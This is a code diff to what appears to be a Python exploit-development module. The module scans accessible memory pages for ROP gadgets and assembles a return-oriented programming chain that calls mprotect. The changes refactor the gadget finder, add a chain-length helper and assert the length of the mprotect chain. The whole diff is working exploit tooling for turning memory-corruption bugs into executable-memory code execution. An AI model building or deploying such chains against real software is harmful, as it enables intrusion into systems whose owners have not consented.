@@ -59,19 +59,15 @@ class MissingGadgetError(Exception):
         self.missing = tuple(sorted(missing))
 
 
-def find_gadgets(
-    space: AddressSpace,
-    pagemap: PageMap,
-    specs: tuple[GadgetSpec, ...] | None = None,
-) -> GadgetCatalog:
-    """Scan every page the pagemap marks accessible for every spec pattern.
+def find_gadgets(space: AddressSpace, pagemap: PageMap) -> GadgetCatalog:
+    """Scan every page the pagemap marks accessible for every pattern in
+    default_gadget_specs().
 
     Pages never probed accessible are never read.  A pattern straddling two
     adjacent accessible pages counts too, since execution would cross the
     boundary just as happily.
     """
-    if specs is None:
-        specs = default_gadget_specs()
+    specs = default_gadget_specs()
     max_len = max(len(s.pattern) for s in specs)
     accessible = set(pagemap.accessible_pages())
     hits: dict[str, list[int]] = {s.name: [] for s in specs}
@@ -108,9 +104,6 @@ class RopChain:
     def to_bytes(self) -> bytes:
         return b"".join(w.value.to_bytes(8, "little") for w in self.words)
 
-    def byte_len(self) -> int:
-        return 8 * len(self.words)
-
 
 def required_kinds(variant: str) -> tuple[str, ...]:
     """Gadget kinds a chain variant consumes."""
@@ -121,6 +114,12 @@ def required_kinds(variant: str) -> tuple[str, ...]:
         # already hold the protection value when the pivot begins
         return ("pop-rdi-ret", "pop-rsi-ret", "pop-rax-ret", "syscall")
     raise ValueError(f"unknown chain variant {variant!r}")
+
+
+def chain_len(variant: str) -> int:
+    """Words in the chain build_mprotect_chain emits for ``variant``: a
+    gadget and an immediate per argument-loading kind, then the syscall."""
+    return 2 * len(required_kinds(variant)) - 1
 
 
 def _pick_syscall(catalog: GadgetCatalog, space: AddressSpace | None) -> int:
@@ -171,4 +170,5 @@ def build_mprotect_chain(
         imm(SYS_MPROTECT),
         ChainWord(_pick_syscall(catalog, space), "gadget-address"),
     ]
+    assert len(words) == chain_len(variant)
     return RopChain(tuple(words))
